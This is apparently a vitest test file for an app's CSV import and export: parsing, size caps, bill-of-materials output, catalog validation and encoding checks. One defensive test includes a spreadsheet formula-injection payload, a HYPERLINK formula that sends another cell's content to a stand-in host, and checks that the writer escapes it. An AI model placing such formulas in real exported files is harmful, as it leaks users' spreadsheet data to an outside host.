import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { builtInCatalog } from '../../../shared/catalog';
import { bomCsv, billOfMaterials } from '../../../shared/io/bom';
import { CATALOG_COLUMNS, catalogFromCsv, catalogToCsv, spreadsheetColumn } from '../../../shared/io/catalog-csv';
import { MAX_CSV_FIELDS, MAX_CSV_FIELDS_PER_LINE, MAX_CSV_LINES, parseCsv, toCsv } from '../../../shared/io/csv';
import { MAX_PRICE_FILE_BYTES } from '../../../shared/energy/price-series';
import { sampleSmall } from '../../../shared/samples';

const values = (text: string): string[][] => parseCsv(text).map((r) => r.map((c) => c.value));

describe('RFC 4180 CSV', () => {
  it('quotes fields with commas, quotes and line breaks, and ends lines with CRLF', () => {
    expect(toCsv([['a', 'b,c', 'say "hi"', 'two\nlines', '']])).toBe('a,"b,c","say ""hi""","two\nlines",\r\n');
  });

  it('reads quoted fields, empty fields, LF-only files and a byte-order mark', () => {
    expect(values('\uFEFFa,"b,c",\r\n"x ""y""","1\r\n2"\n')).toEqual([
      ['a', 'b,c', ''],
      ['x "y"', '1\r\n2'],
    ]);
  });

  it('gives line and column of each cell', () => {
    const rows = parseCsv('id,name\r\nx,"multi\nline"\r\ny,z\r\n');
    expect(rows[2]![1]).toEqual({ value: 'z', line: 4, column: 3 });
    expect(rows[1]![1]).toEqual({ value: 'multi\nline', line: 2, column: 3 });
  });

  it.each([
    ['a,"open\r\nb', /^line 1, character 3: a quoted field is not closed$/],
    ['a,b\r\nc,"q"x', /^line 2, character 6: text after the closing quote/],
    ['a,b\r\nc,d"e', /^line 2, character 4: a quote inside an unquoted field/],
  ])('names where %j is malformed', (text, reason) => {
    expect(() => parseCsv(text)).toThrow(reason);
  });

  it('reads back whatever it writes', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom('a', ',', '"', '\r', '\n', ' ', 'é') }), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(values(toCsv(rows))).toEqual(rows);
      }),
    );
  });
});

describe('what a CSV may hold', () => {
  // Every field read is an object of about 60 bytes for as little as one byte of text: parsed whole, these ran the imports out of memory.
  it('refuses a line of more fields than any file has, at the field past the limit, building none of the rest', () => {
    expect(() => parseCsv(','.repeat(1_000_000))).toThrow(/^line 1, character 101: more than 100 fields on one line, the most a CSV line may have \(are the columns separated by commas\?\)$/);
    expect(() => catalogFromCsv(','.repeat(1_000_000), 'commas.csv')).toThrow(/^Cannot import commas\.csv: 1 error\ncommas\.csv line 1, character 101: more than 100 fields on one line/);
    expect(parseCsv(`${','.repeat(MAX_CSV_FIELDS_PER_LINE - 1)}\n`)[0]).toHaveLength(MAX_CSV_FIELDS_PER_LINE);
  });

  it('refuses a file of more lines than any file has, at the first line past the limit', () => {
    expect(() => parseCsv(`a,b\n${'\n'.repeat(MAX_CSV_LINES + 10)}`)).toThrow(/^line 2000001, character 1: the file goes on past 2,000,000 lines, the most a CSV file may have$/);
    expect(parseCsv('\n'.repeat(MAX_CSV_LINES))).toHaveLength(MAX_CSV_LINES);
  });

  it('holds every price file the app takes: 50 MiB of ERCOT lines of 7 fields and 27 bytes or more stay within the caps', () => {
    // A 15-minute ERCOT line such as "01/01/2027,01,1,HB_NORTH,HU,25.03,N" is 36 bytes; 27 leaves room for shorter names.
    const lines = Math.ceil(MAX_PRICE_FILE_BYTES / 27);
    expect(lines).toBeLessThanOrEqual(MAX_CSV_LINES);
    expect(lines * 7).toBeLessThanOrEqual(MAX_CSV_FIELDS);
  });

  it('refuses a file of more fields than any file has, where the field past the limit stands', () => {
    const line = `${','.repeat(MAX_CSV_FIELDS_PER_LINE - 1)}\n`;
    expect(() => parseCsv(line.repeat(MAX_CSV_FIELDS / MAX_CSV_FIELDS_PER_LINE + 1))).toThrow(/^line 140001, character 1: the file goes on past 14,000,000 fields, the most a CSV file may have$/);
  });
});

describe('bill of materials', () => {
  it('counts each model per hall with totals', () => {
    const lines = billOfMaterials(sampleSmall());
    const racks = lines.find((l) => l.modelId === 'rack-s21xp')!;
    // 8 racks × 72.9 kW = 583.2 kW; capex 8 × (20 × $5,400 + $2,000) = $880,000; 8 × 5,400 TH/s = 43,200 TH/s.
    expect(racks).toMatchObject({ quantity: 8, totalPowerKw: 583.2, totalCapexUsd: 880_000, totalHashrateThs: 43_200, totalGpus: 0 });
    // 2 GB200 NVL72 racks × 132 kW = 264 kW and 2 × 72 GPUs = 144.
    expect(lines.find((l) => l.modelId === 'nvl72-gb200')).toMatchObject({ quantity: 2, totalPowerKw: 264, totalGpus: 144 });
    expect(lines.reduce((n, l) => n + l.quantity, 0)).toBe(sampleSmall().placements.length);
  });

  it('writes a header and one CSV line per hall and model', () => {
    const csv = bomCsv(sampleSmall());
    const rows = values(csv);
    expect(rows[0]![0]).toBe('siteId');
    expect(rows).toHaveLength(1 + billOfMaterials(sampleSmall()).length);
    expect(rows[1]).toEqual(['sm', 'Test site', 'sm-h1', 'Hall 1', 'rack-s21xp', 'Shelf rack, 20 × Antminer S21 XP', 'miner-rack', 'generic', '8', '72.9', '583.2', '110000', '880000', '43200', '0']);
  });
});

describe('catalog CSV', () => {
  it('round-trips the built-in catalog', () => {
    const catalog = builtInCatalog();
    const csv = catalogToCsv(catalog);
    expect(catalogFromCsv(csv, 'catalog.csv')).toEqual(catalog);
    expect(catalogToCsv(catalogFromCsv(csv, 'catalog.csv'))).toBe(csv);
  });

  it('reads money as the Catalog shows it and spreadsheets format it: "3,450,000", "$3,450,000", "$3450000"; "3,45", and grouping in other columns, stay text the schema refuses', () => {
    const rows = values(catalogToCsv(builtInCatalog().slice(0, 3)));
    const col = CATALOG_COLUMNS.indexOf('capexUsd');
    rows[1]![col] = '3,450,000';
    rows[2]![col] = '$3,450,000';
    expect(catalogFromCsv(toCsv(rows), 'quote.csv').slice(0, 2).map((m) => m.capexUsd)).toEqual([3_450_000, 3_450_000]);
    rows[3]![col] = '$3450000';
    expect(catalogFromCsv(toCsv(rows), 'quote.csv')[2]!.capexUsd).toBe(3_450_000);
    rows[3]![col] = '3,45';
    expect(() => catalogFromCsv(toCsv(rows), 'quote.csv')).toThrow(/line 4, column [A-Z]+ \(capexUsd\): "3,45" is not a number/);
    // Only money: a length's "1,200" could be a European 1.2 m, and is refused, not read as 1,200 m.
    rows[3]![col] = '1';
    rows[3]![CATALOG_COLUMNS.indexOf('clearanceFrontM')] = '1,200';
    expect(() => catalogFromCsv(toCsv(rows), 'quote.csv')).toThrow(/\(clearanceFrontM\): "1,200" is not a number/);
  });

  it('names the line and column of every bad cell', () => {
    const rows = values(catalogToCsv(builtInCatalog().slice(0, 3)));
    const col = (name: string): number => CATALOG_COLUMNS.indexOf(name as (typeof CATALOG_COLUMNS)[number]);
    rows[1]![col('powerKw')] = 'lots';
    rows[2]![col('kind')] = 'toaster';
    rows[3]![col('id')] = rows[1]![col('id')]!;
    const text = toCsv(rows);
    let message = '';
    try {
      catalogFromCsv(text, 'mine.csv');
    } catch (error) {
      message = (error as Error).message;
    }
    // Columns as the spreadsheet shows them: A for the first, so powerKw's letter follows from its place.
    const letter = spreadsheetColumn(col('powerKw'));
    expect(message).toMatch(/^Cannot import mine.csv: 3 errors\n/);
    expect(message).toContain(`mine.csv line 2, column ${letter} (powerKw): "lots" is not a number`);
    expect(message).toMatch(/mine.csv line 3, column [A-Z]+ \(kind\): "toaster" must be one of asic-miner, miner-rack, /);
    expect(message).toMatch(/mine.csv line 4, column A \(id\): "ant-s19xp" is already used on line 2/);
  });

  it('reads a spreadsheet from before the power modules and dual feeds: every model one module, no spare, one feed', () => {
    const catalog = builtInCatalog();
    const rows = values(catalogToCsv(catalog));
    const later = ['moduleCount', 'moduleRedundancy', 'dualFeed'].map((c) => rows[0]!.indexOf(c));
    expect(later.every((i) => i >= 0)).toBe(true);
    const older = rows.map((r) => r.filter((_, i) => !later.includes(i)));
    const models = catalogFromCsv(toCsv(older), 'old.csv');
    expect(models.map((m) => [m.moduleCount, m.moduleRedundancy, m.dualFeed])).toEqual(catalog.map(() => [1, 'N', false]));
    expect(models.map(({ moduleCount: _c, moduleRedundancy: _r, dualFeed: _d, ...rest }) => rest)).toEqual(catalog.map(({ moduleCount: _c, moduleRedundancy: _r, dualFeed: _d, ...rest }) => rest));
  });

  it("a vendor's sheet without the catalog's bookkeeping imports: the id made from the name, the file named as source, the kind's power factor, no GPUs, rating, cooling or liquid heat", () => {
    const sheet = [
      'name,kind,powerKw,widthM,depthM,heightM,weightKg,hashrateThs,capexUsd,compatibleCooling,clearanceFrontM,clearanceBackM,mounting',
      'Shelf rack (S23),miner-rack,80,2,0.7,2.2,430,24000,"$52,000",free-air;air,1.2,1.0,floor',
      'Shelf rack (S23 Pro),miner-rack,85,2,0.7,2.2,440,26000,54000,free-air;air,1.2,1.0,floor',
    ].join('\r\n');
    const [a, b] = catalogFromCsv(sheet, 'vendor.csv');
    expect(a).toMatchObject({ id: 'user-shelf-rack-s23', name: 'Shelf rack (S23)', vendor: '', builtIn: false, source: 'Imported from vendor.csv', capexUsd: 52_000, gpuCount: 0, gpuType: '', ratingKva: 0, coolingCapacityKw: 0, heatToLiquidFraction: 0, moduleCount: 1, dualFeed: false });
    expect(a!.powerFactor).toBe(builtInCatalog().find((m) => m.id === 'rack-s21xp')!.powerFactor);
    expect(b!.id).toBe('user-shelf-rack-s23-pro');
    // Two models of one name would be one model: refused, naming the name column.
    expect(() => catalogFromCsv(`${sheet}\r\n${sheet.split('\r\n')[1]}`, 'vendor.csv')).toThrow(/vendor.csv line 4, column A \(name\): "Shelf rack \(S23\)" is already used on line 2/);
    // The figures that place and cool a unit must be given.
    expect(() => catalogFromCsv('name,kind,powerKw\r\nX,pdu,1\r\n', 'v.csv')).toThrow(/v.csv line 1: missing columns .*heightM.*compatibleCooling.*mounting/);
  });

  it('refuses unknown and missing columns and broken quoting', () => {
    expect(() => catalogFromCsv('id,colour\r\nx,red\r\n', 'c.csv')).toThrow(/c.csv line 1, column B: unknown column "colour"/);
    expect(() => catalogFromCsv('id,colour\r\nx,red\r\n', 'c.csv')).toThrow(/c.csv line 1: missing columns kind, name/);
    expect(() => catalogFromCsv('id,"name\r\n', 'c.csv')).toThrow(/c.csv line 1, character 4: a quoted field is not closed/);
    expect(() => catalogFromCsv('', 'c.csv')).toThrow(/the file is empty/);
  });

  it('a file saved as UTF-16, UTF-32 or Windows-1252 says it is not UTF-8, instead of naming a quote deep in line 3 or importing broken accents', () => {
    const written = catalogToCsv(sampleSmall().models.slice(0, 2));
    // Read as the CLI and the browser read files: decoded as UTF-8 whatever they hold.
    const asUtf8 = (bytes: Uint8Array): string => new TextDecoder('utf-8').decode(bytes);
    const utf16le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(written, 'utf16le')]);
    const utf16beNoMark = Buffer.from(written, 'utf16le').swap16();
    const utf32le = Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), ...[...written].map((c) => Buffer.from(new Uint32Array([c.codePointAt(0)!]).buffer))]);
    const bom = 'u16.csv: the file is not UTF-8 text (it starts with a UTF-16 or UTF-32 byte-order mark, as a spreadsheet\'s "Unicode text" does): save it as CSV UTF-8';
    expect(() => catalogFromCsv(asUtf8(utf16le), 'u16.csv')).toThrow(`Cannot import u16.csv: 1 error\n${bom}`);
    expect(() => catalogFromCsv(asUtf8(utf32le), 'u16.csv')).toThrow(bom);
    expect(() => catalogFromCsv(asUtf8(utf16beNoMark), 'be.csv')).toThrow(
      'be.csv: the file is not UTF-8 text (it holds NUL characters, as a spreadsheet\'s "Unicode text", UTF-16, does): save it as CSV UTF-8',
    );
    // Windows' plain "CSV (Comma delimited)" is Windows-1252: its É (0xC9) is no UTF-8, and the name would read "…\ufffd".
    const first = sampleSmall().models[0]!.name;
    const latin1 = Buffer.from(written.replace(first, `${first} É`), 'latin1');
    expect(() => catalogFromCsv(asUtf8(latin1), 'win.csv')).toThrow(
      'win.csv: the file is not UTF-8 text (line 2 holds a character UTF-8 cannot read, as a Windows "CSV (Comma delimited)" file\'s accents are): save it as CSV UTF-8',
    );
    // A UTF-8 byte-order mark is UTF-8.
    expect(catalogFromCsv(`\ufeff${written}`, 'bom.csv')).toEqual(sampleSmall().models.slice(0, 2));
  });

  it('a file saved with semicolons or tabs says so, instead of listing every column as unknown', () => {
    const written = catalogToCsv(sampleSmall().models.slice(0, 2));
    expect(() => catalogFromCsv(written.replaceAll(',', ';'), 'eu.csv')).toThrow(
      'eu.csv line 1: the columns are separated by semicolons (;), not commas; save it as comma-separated CSV (in Excel, "CSV UTF-8 (Comma delimited)")',
    );
    expect(() => catalogFromCsv(written.replaceAll(',', '\t'), 'tab.csv')).toThrow(/tab.csv line 1: the columns are separated by tabs, not commas/);
  });
});

describe('messages a spreadsheet user can act on', () => {
  it('names columns by letter, A to Z, then AA', () => {
    expect([0, 1, 25, 26, 27, 51, 52].map(spreadsheetColumn)).toEqual(['A', 'B', 'Z', 'AA', 'AB', 'AZ', 'BA']);
  });
  it('says what is wrong with a value in plain words', () => {
    const rows = values(catalogToCsv(builtInCatalog().slice(0, 1)));
    const col = (name: string): number => CATALOG_COLUMNS.indexOf(name as (typeof CATALOG_COLUMNS)[number]);
    rows[1]![col('name')] = '';
    rows[1]![col('powerKw')] = '-1';
    const message = (() => {
      try {
        catalogFromCsv(toCsv(rows), 'm.csv');
        return '';
      } catch (error) {
        return (error as Error).message;
      }
    })();
    expect(message).toContain(`column ${spreadsheetColumn(col('name'))} (name): "" must not be empty`);
    expect(message).toContain(`column ${spreadsheetColumn(col('powerKw'))} (powerKw): "-1" must be at least 0`);
  });
});

describe('text a spreadsheet would run as a formula', () => {
  it('is written with an apostrophe in front and read back as it was; numbers, negative ones too, are left alone', () => {
    const cells = ['=HYPERLINK("http://x.example/?"&A2,"a")', '+1+2', '-2+3', '@SUM(A1)', '\tx', '-5', '+7', '-1.5e3', 'plain', "'=kept", "''=x", "'plain"];
    const text = toCsv([cells]);
    expect(text).toBe(`"'=HYPERLINK(""http://x.example/?""&A2,""a"")",'+1+2,'-2+3,'@SUM(A1),'\tx,-5,+7,-1.5e3,plain,''=kept,'''=x,'plain\r\n`);
    expect(parseCsv(text)[0]!.map((c) => c.value)).toEqual(cells);
  });
});

describe('a refused cell in a message', () => {
  it('is quoted whole up to 60 characters, and cut short with "…" past them: a 20 MB cell makes no 20 MB message', () => {
    const s21 = builtInCatalog().find((m) => m.id === 'rack-s21xp')!;
    const huge = 'x'.repeat(20_000_000);
    const text = catalogToCsv([{ ...s21, powerKw: huge as unknown as number }]);
    let message = '';
    try {
      catalogFromCsv(text, 'big.csv');
    } catch (error) {
      message = (error as Error).message;
    }
    expect(message).toContain(`"${'x'.repeat(60)}…"`);
    expect(message.length).toBeLessThan(1_000);
  });
});
